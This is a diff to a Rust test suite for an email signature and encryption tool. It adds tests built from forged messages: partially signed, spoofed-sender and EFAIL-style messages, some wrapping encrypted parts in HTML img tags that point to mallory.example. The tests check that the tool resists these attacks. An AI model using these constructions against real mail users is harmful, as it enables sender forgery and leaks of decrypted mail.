@@ -191,7 +191,7 @@ fn signatures_that_must_not_be_believed_are_not_ok() {
         "mallory.eml",
         &open,
         &yes,
-        "it is for mallory@crepes.fr, which From does not have",
+        "it is for mallory@crepes.fr, and not for the author in From",
     );
     assert_eq!(
         (&signer["trusted"], &signer["author"]),
@@ -223,7 +223,7 @@ fn certificates_that_must_not_be_believed_are_not_ok() {
         layer["text"]
             .as_str()
             .unwrap()
-            .contains("which From does not have"),
+            .contains("not for the author in From"),
         "{shown}"
     );
 }
@@ -393,4 +393,136 @@ fn key_without_a_terminal_is_not_waited_for() {
     world.printed(&letter, "p.eml");
     let ran = world.ehlo(&["show", "p.eml"], None);
     ran.ends_with(0).hides("secret text").shows("not decrypted");
+}
+
+/// Messages in which a signed or encrypted entity of alice is not the whole message, or not in one reading of it.
+const WRAPPED: &str = r#"
+gpg --batch -q --armor -u alice@crepes.fr --detach-sign -o hp.sig hp
+gpg --batch -q --armor --trust-model always -r bob@hamburger.edu --encrypt -o wrapped.asc mixed
+openssl cms -sign -binary -nodetach -outform DER -signer alice.pem -inkey alice.pem -in body | base64 >opaque
+python3 - <<'END'
+import re
+octets = lambda name: open(name, "rb").read().replace(b"\r\n", b"\n")
+def split(name):
+    head, body = octets(name).split(b"\n\n", 1)
+    content = re.search(rb"(?mi)^Content-Type:.*\n([ \t].*\n)*", head + b"\n").group(0)
+    return content + b"\n" + body
+HEAD = b"To: bob@hamburger.edu\nSubject: s\nMIME-Version: 1.0\n"
+ALICE = b"From: alice@crepes.fr\n"
+EVIL = b"Content-Type: text/plain\n\npay to mallory\n"
+def mixed(*parts, kind=b"mixed"):
+    return b"Content-Type: multipart/" + kind + b"; boundary=out\n\n" + b"".join(b"--out\n" + part + b"\n" for part in parts) + b"--out--\n"
+def write(name, author, entity):
+    open(name, "wb").write(author + HEAD + entity)
+message = b"Content-Type: message/rfc822\n\n"
+signed, sealed = split("s.eml"), split("p.eml")
+write("footer.eml", ALICE, mixed(signed, EVIL))
+write("deep.eml", ALICE, mixed(EVIL, mixed(EVIL, signed).replace(b"out", b"inn")))
+write("forward.eml", b"From: mallory@crepes.fr\n", mixed(EVIL, message + octets("s.eml")))
+write("digest.eml", b"From: mallory@crepes.fr\n", mixed(b"\n" + octets("s.eml"), kind=b"digest"))
+write("alone.eml", ALICE, message + octets("s.eml"))
+write("smime.eml", ALICE, mixed(EVIL, split("m.eml")))
+write("opaque.eml", ALICE, mixed(EVIL, b"Content-Type: application/pkcs7-mime; smime-type=signed-data\nContent-Transfer-Encoding: base64\n\n" + octets("opaque")))
+write("changed.eml", ALICE, mixed(signed.replace(b"secret text", b"secret next"), EVIL))
+write("efail.eml", ALICE, mixed(b"Content-Type: text/html\n\n<img src=\"http://mallory.example/?", sealed, b"Content-Type: text/html\n\n\">\n"))
+write("efail_smime.eml", ALICE, mixed(b"Content-Type: text/html\n\n<img src=\"http://mallory.example/?", b"Content-Transfer-Encoding: base64\n" + split("e.eml")))
+boundary = re.search(rb"boundary=\"?([^\";\n]+)", signed).group(1)
+third = signed.replace(b"--" + boundary + b"--", b"--" + boundary + b"\n" + EVIL + b"--" + boundary + b"--")
+assert third != signed
+write("third.eml", ALICE, third)
+write("boss.eml", b"From: boss@crepes.fr, alice@crepes.fr\n", signed)
+write("twice.eml", b"From: boss@crepes.fr\nFrom: alice@crepes.fr\n", signed)
+def pgp(content, author):
+    write("out", author, b"Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=out\n\n--out\n" + content + b"\n--out\nContent-Type: application/pgp-signature\n\n" + octets("hp.sig") + b"\n--out--\n")
+pgp(octets("hp"), ALICE); import os; os.rename("out", "hp.eml")
+write("wrapped.eml", ALICE, b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=out\n\n--out\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--out\nContent-Type: application/octet-stream\n\n" + octets("wrapped.asc") + b"\n--out--\n")
+END
+"#;
+
+#[test]
+fn signature_of_a_part_is_never_one_of_the_message() {
+    let Some(world) = World::new(1) else { return };
+    let letter = |name: &str, options: &[&str]| {
+        world.printed(&[&LETTER[..], options].concat(), name);
+    };
+    letter("s.eml", &["--sign", "pgp"]);
+    letter("p.eml", &["--encrypt", "pgp"]);
+    letter("m.eml", &["--sign", "smime", "--sign-key", "alice.pem"]);
+    letter("e.eml", &["--encrypt", "smime", "--encrypt-key", "bob.crt"]);
+    fs::write(
+        world.path("hp"),
+        "Content-Type: text/plain; hp=\"clear\"\r\nFrom: boss@crepes.fr\r\nSubject: inner\r\n\r\nsecret text",
+    )
+    .unwrap();
+    fs::write(
+        world.path("body"),
+        "Content-Type: text/plain\r\n\r\nsecret text\r\n",
+    )
+    .unwrap();
+    world.succeeds(
+        "{ printf 'Content-Type: multipart/mixed; boundary=mix\\n\\n--mix\\n\\npay to mallory\\n--mix\\n'; \
+         tr -d '\\r' <s.eml | sed -n '/^Content-Type: multipart/,$p'; printf '\\n--mix--\\n'; } >mixed",
+    );
+    world.succeeds(WRAPPED);
+    let (yes, no, open): (Value, Value, Value) = (true.into(), false.into(), Value::Null);
+    let one = |name: &'static str, ok, valid, part, author| (name, ok, valid, part, author);
+    let cases = [
+        one("footer.eml", &open, &yes, "1", Some(true)),
+        one("deep.eml", &open, &yes, "2.2", Some(true)),
+        // alice wrote what is forwarded.
+        one("forward.eml", &open, &yes, "2", Some(true)),
+        one("digest.eml", &open, &yes, "1", Some(true)),
+        one("alone.eml", &open, &yes, "1", Some(true)),
+        one("smime.eml", &open, &yes, "2", Some(true)),
+        one("opaque.eml", &open, &yes, "2", Some(true)),
+        one("changed.eml", &no, &no, "1", None),
+        one("efail.eml", &open, &open, "2", None),
+        one("efail_smime.eml", &open, &open, "2", None),
+        one("third.eml", &no, &no, "", None),
+        one("boss.eml", &open, &yes, "", Some(false)),
+        one("twice.eml", &open, &yes, "", Some(false)),
+    ];
+    for (name, ok, valid, part, author) in cases {
+        let shown = shown(&world, &[name, "--decrypt-key", "bob.pem"]);
+        let place = format!("{name}: {shown}");
+        let layers = shown["layers"].as_array().unwrap();
+        assert_eq!(layers.len(), 1, "{place}");
+        let layer = &layers[0];
+        assert_eq!((&layer["ok"], &layer["valid"]), (ok, valid), "{place}");
+        assert_eq!(layer["part"].as_str().unwrap_or_default(), part, "{place}");
+        let text = layer["text"].as_str().unwrap();
+        let prefix = format!("covers only part {part} of the message: ");
+        assert_eq!(text.starts_with(&prefix), !part.is_empty(), "{place}");
+        assert_eq!(layer["signer"]["author"].as_bool(), author, "{place}");
+        if name.starts_with("efail") {
+            assert!(!shown.to_string().contains("secret text"), "{place}");
+            assert!(
+                text.contains("a part is not decrypted beside others"),
+                "{place}"
+            );
+        }
+    }
+    // Decrypted, but signed in part only.
+    let wrapped = shown(&world, &["wrapped.eml"]);
+    assert_eq!(
+        layers(&wrapped),
+        [
+            ("pgp encryption".to_owned(), yes.clone(), yes.clone()),
+            ("pgp signature".to_owned(), open.clone(), yes.clone())
+        ],
+        "{wrapped}"
+    );
+    assert_eq!(wrapped["layers"][1]["part"], "2", "{wrapped}");
+    // The signed header cannot name an author who is not the signer.
+    let protected = shown(&world, &["hp.eml"]);
+    assert_eq!(protected["layers"][0]["ok"], yes, "{protected}");
+    assert_eq!(protected["subject"], "inner", "{protected}");
+    assert_eq!(
+        protected["from"][0]["address"], "alice@crepes.fr",
+        "{protected}"
+    );
+    let ran = world.ehlo(&["show", "footer.eml"], None);
+    ran.ends_with(0)
+        .shows("  -       OpenPGP signature: covers only part 1 of the message: valid, by Alice")
+        .shows("pay to mallory");
 }
